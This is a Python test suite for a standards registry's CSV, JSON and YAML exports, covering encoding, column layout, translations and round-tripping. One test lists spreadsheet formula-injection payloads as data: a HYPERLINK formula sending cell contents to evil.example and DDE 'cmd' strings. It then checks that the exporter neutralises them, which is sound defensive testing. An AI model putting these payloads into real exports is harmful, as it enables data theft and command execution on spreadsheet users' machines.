"""The machine-readable exports: CSV competency matrix, JSON, exact YAML."""

from __future__ import annotations

import copy
import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest

from registry.exports import FORMATS, RenderJob, VersionInfo, render
from registry.exports.csv_matrix import FORMULA_TRIGGERS, TEXT_COLUMNS, columns, competency_matrix, plain
from registry.loader import load_bytes

ROOT = Path(__file__).resolve().parent.parent.parent
STANDARDS = ROOT / "standards"
BOM = b"\xef\xbb\xbf"


def load(code: str, version: str) -> dict:
    return load_bytes((STANDARDS / code / f"{version}.yaml").read_bytes()).data


def read(data: bytes) -> list[dict[str, str]]:
    """What a program gets back: Python's csv module over the UTF-8 (BOM stripped) text, the text
    formulas of codes, versions and numbers (="1.10") read as their values."""
    return [{k: plain(v) for k, v in row.items()}
            for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))]


def basic_items(doc: dict) -> list[dict]:
    basic = doc["basic_requirements"]
    return basic["ethics"].get("knowledge", []) + basic["ethics"].get("code_of_conduct", []) + \
        [item for group in basic["basic_knowledge"] for item in group["items"]]


def items_of(doc: dict) -> list[dict]:
    found = basic_items(doc)
    for section in doc["work_requirements"]["sections"]:
        for block in section["functions"]:
            for wc in block["work_contents"]:
                found += wc["requirements"] + wc["knowledge"] + wc.get("behaviours", [])
    return found + doc.get("behaviours", [])


# --- CSV ----------------------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_crlf_and_a_stable_header():
    doc = load("4-04-05-05", "2.0")  # zh master, en and fr translations
    data = competency_matrix(doc, version_info=VersionInfo(code="4-04-05-05", version="2.0"))
    assert data.startswith(BOM) and not data.startswith(BOM + BOM)
    text = data[len(BOM):].decode("utf-8")  # strict: the whole file is valid UTF-8
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")  # no bare LF line ends (none of these texts has a line break)
    header = text.split("\r\n", 1)[0].split(",")
    assert header == [
        "code", "version", "standing", "part", "level_id", "level_name_zh", "level_name_en", "level_name_fr", "direction_id",
        "direction_name_zh", "direction_name_en", "direction_name_fr", "function_id", "function_number",
        "function_name_zh", "function_name_en", "function_name_fr", "work_content_id", "work_content_number",
        "work_content_name_zh", "work_content_name_en", "work_content_name_fr", "group_id", "group_number",
        "group_name_zh", "group_name_en", "group_name_fr", "item_id", "kind", "number", "text_zh", "text_en",
        "text_fr", "permalink"]
    assert header == columns(load("4-04-05-05", "2.0"))
    assert competency_matrix(doc, version_info=VersionInfo(code="4-04-05-05", version="2.0")) == data  # deterministic


def test_every_csv_row_says_the_standing_of_its_version_on_the_day_it_was_made():
    from registry.lifecycle import Timeline, VersionFacts

    doc = load("4-04-05-05", "2.0")
    facts = [VersionFacts("1.0", date(2021, 1, 1), None, date(2021, 1, 1)),
             VersionFacts("2.0", date(2025, 6, 1), None, date(2025, 1, 1))]
    for day, expected in ((date(2025, 5, 31), "upcoming"), (date(2025, 6, 1), "in-force")):
        standing = Timeline(facts).standing("2.0", day)
        info = VersionInfo(code="4-04-05-05", version="2.0", standing=standing)
        rows = read(competency_matrix(doc, version_info=info))
        assert {r["standing"] for r in rows} == {expected}
    assert {r["standing"] for r in read(competency_matrix(doc, version_info=None))} == {""}  # made outside the catalog


@pytest.mark.parametrize("path", sorted(STANDARDS.rglob("*.yaml")), ids=lambda p: f"{p.parent.name}/{p.stem}")
def test_one_row_per_item_and_every_row_complete(path: Path):
    doc = load_bytes(path.read_bytes()).data
    rows = read(competency_matrix(doc, version_info=None))
    items = items_of(doc)
    assert len(rows) == len(items)
    assert [r["item_id"] for r in rows] == [i["id"] for i in items]  # document order
    raw = list(csv.reader(io.StringIO(competency_matrix(doc, version_info=None).decode("utf-8-sig"), newline="")))
    assert {len(r) for r in raw} == {len(columns(doc))}
    assert {r["code"] for r in rows} == {doc["code"]} and {r["version"] for r in rows} == {doc["version"]}
    master = doc["languages"]["master"]
    assert all(r[f"text_{master}"] for r in rows)
    assert {r["kind"] for r in rows} <= {"requirement", "knowledge", "conduct", "behaviour"}
    assert [r["item_id"] for r in rows if r["part"] == "basic"] == [i["id"] for i in basic_items(doc)]
    assert all(r["permalink"].endswith(f"/standards/{doc['code']}/{doc['version']}/items/{r['item_id']}")
               for r in rows)


def test_chinese_and_english_texts_round_trip():
    doc = load("4-04-05-05", "2.0")
    rows = {r["item_id"]: r for r in read(competency_matrix(doc, version_info=None))}
    section = doc["work_requirements"]["sections"][1]
    block = section["functions"][0]
    wc = block["work_contents"][0]
    requirement, knowledge = wc["requirements"][0], wc["knowledge"][0]
    row = rows[requirement["id"]]
    assert row["text_zh"] == requirement["text"]["zh"] and row["text_en"] == requirement["text"]["en"]
    assert row["kind"] == "requirement" and row["number"] == requirement["number"]
    assert row["level_id"] == section["level"] == "L4"
    assert (row["level_name_zh"], row["level_name_en"]) == ("四级/中级工", "Level 4 / Intermediate worker")
    assert row["function_id"] == block["function"] and row["function_number"] == block["number"]
    function = next(f for f in doc["functions"] if f["id"] == block["function"])
    assert row["function_name_zh"] == function["name"]["zh"] and row["function_name_en"] == function["name"]["en"]
    assert (row["work_content_id"], row["work_content_number"]) == (wc["id"], wc["number"])
    assert row["work_content_name_zh"] == wc["name"]["zh"]
    assert rows[knowledge["id"]]["kind"] == "knowledge"
    assert rows[knowledge["id"]]["text_zh"] == knowledge["text"]["zh"]


def test_directions_and_missing_translations():
    doc = load("2-02-38-01", "1.0")  # two directions
    rows = [r for r in read(competency_matrix(doc, version_info=None)) if r["part"] == "work"]
    directions = {d["id"]: d for d in doc["directions"]}
    assert {r["direction_id"] for r in rows} == set(directions)
    for row in rows[:5] + rows[-5:]:
        assert row["direction_name_zh"] == directions[row["direction_id"]]["name"]["zh"]
    # a text without a French translation leaves text_fr empty: no fallback to the master text
    item = items_of(doc)[0]
    item["text"] = {"zh": "只有中文。"}
    row = read(competency_matrix(doc, version_info=None))[0]
    assert (row["text_zh"], row["text_en"], row["text_fr"]) == ("只有中文。", "", "")


def test_formula_injection_is_neutralised():
    doc = copy.deepcopy(load("4-04-05-05", "2.0"))
    items = items_of(doc)
    attacks = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
               "\t=1+1", "\r=1+1"]
    for item, attack in zip(items, attacks):
        item["text"] = {"zh": attack, "en": attack, "fr": attack}
    wc = doc["work_requirements"]["sections"][0]["functions"][0]["work_contents"][0]
    wc["name"] = {"zh": "=1+1", "en": "Quoted \"name\", with a comma\nand a line break"}
    data = competency_matrix(doc, version_info=None)
    rows = read(data)
    for row, attack in zip(rows, attacks):
        assert row["text_zh"] == "'" + attack and row["text_en"] == "'" + attack
    first = next(r for r in rows if r["work_content_id"] == wc["id"])
    assert first["work_content_name_zh"] == "'=1+1"
    assert first["work_content_name_en"] == "Quoted \"name\", with a comma\nand a line break"  # survives quoting
    header, *lines = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    text_columns = {header.index(name) for name in TEXT_COLUMNS}
    for row in lines:  # the only formulas are the registry's own ="…" around codes, versions and numbers
        assert not any(cell.startswith(FORMULA_TRIGGERS) for i, cell in enumerate(row) if i not in text_columns), row
        assert all(cell == "" or (cell.startswith('="') and plain(cell).replace(".", "").replace("-", "").isdigit())
                   for i, cell in enumerate(row) if i in text_columns), row
    # ordinary text is untouched
    assert rows[len(attacks)]["text_zh"] == items[len(attacks)]["text"]["zh"]


def test_behaviours_and_catalog_identity():
    doc = copy.deepcopy(load("4-04-05-05", "2.0"))
    wc = doc["work_requirements"]["sections"][0]["functions"][0]["work_contents"][0]
    wc["behaviours"] = [{"id": "B-row-1", "text": {"zh": "认真倾听。", "en": "Listens carefully."}}]
    doc["behaviours"] = [{"id": "B-1", "number": "1", "text": {"zh": "安全作业。", "en": "Works safely."}}]
    rows = read(competency_matrix(doc, version_info=VersionInfo(code="4-04-05-05", version="2.0")))
    assert len(rows) == len(items_of(doc))
    by_id = {r["item_id"]: r for r in rows}
    assert by_id["B-row-1"]["kind"] == "behaviour" and by_id["B-row-1"]["work_content_id"] == wc["id"]
    assert rows[-1]["item_id"] == "B-1" and rows[-1]["level_id"] == rows[-1]["function_id"] == ""
    assert rows[-1]["part"] == "work"
    assert rows[-1]["text_en"] == "Works safely." and rows[-1]["number"] == "1"


def test_csv_from_the_catalog_matches_the_file(engine, corpus):
    """The document as stored by each backend (JSON column) gives the same bytes as the YAML file."""
    from registry.db import read_session
    from registry.services import catalog

    with read_session(engine) as session:
        version = catalog.get_version(session, "4-04-05-05", "1.0")
        info = VersionInfo.of_document(version.document, sha256=version.sha256)
        stored, source = version.document, version.source
    from_file = load("4-04-05-05", "1.0")
    assert competency_matrix(stored, version_info=info) == competency_matrix(from_file, version_info=info)
    assert render("yaml", RenderJob(stored, source, info)) == (STANDARDS / "4-04-05-05" / "1.0.yaml").read_bytes()
    assert json.loads(render("json", RenderJob(stored, source, info))) == from_file


# --- JSON, YAML and the format table ----------------------------------------------------------------------------


def test_json_and_exact_yaml():
    source = (STANDARDS / "2-02-38-01" / "1.0.yaml").read_bytes()
    doc = load_bytes(source).data
    job = RenderJob(doc, source, VersionInfo.of_document(doc, source=source))
    data = render("json", job)
    assert json.loads(data.decode("utf-8")) == doc
    assert list(json.loads(data)) == list(doc)  # field order of the file
    assert doc["title"]["zh"] in data.decode("utf-8")  # readable UTF-8, not \u-escaped
    assert data.endswith(b"\n")
    assert render("yaml", job) == source


def test_render_covers_every_format():
    source = (STANDARDS / "4-04-05-05" / "2.0.yaml").read_bytes()
    doc = load_bytes(source).data
    job = RenderJob(doc, source, VersionInfo.of_document(doc, source=source, base_url="http://x"))
    assert {name for name, spec in FORMATS.items() if spec.scope == "version"} == \
        {"pdf", "html", "yaml", "json", "csv", "case.json"}  # a version's files; a level's are tests/exports/test_formats_table.py's
    assert render("yaml", job) == source
    assert render("csv", job).startswith(BOM)
    assert json.loads(render("case.json", job))["CFDocument"]["version"] == "2.0"
    assert json.loads(render("json", job)) == doc
    assert render("html", job).startswith(b"<!DOCTYPE html>")
    assert FORMATS["case.json"].prints_standing and FORMATS["csv"].prints_standing
    assert not FORMATS["json"].prints_standing and not FORMATS["yaml"].prints_standing
    with pytest.raises(KeyError):
        render("docx", job)
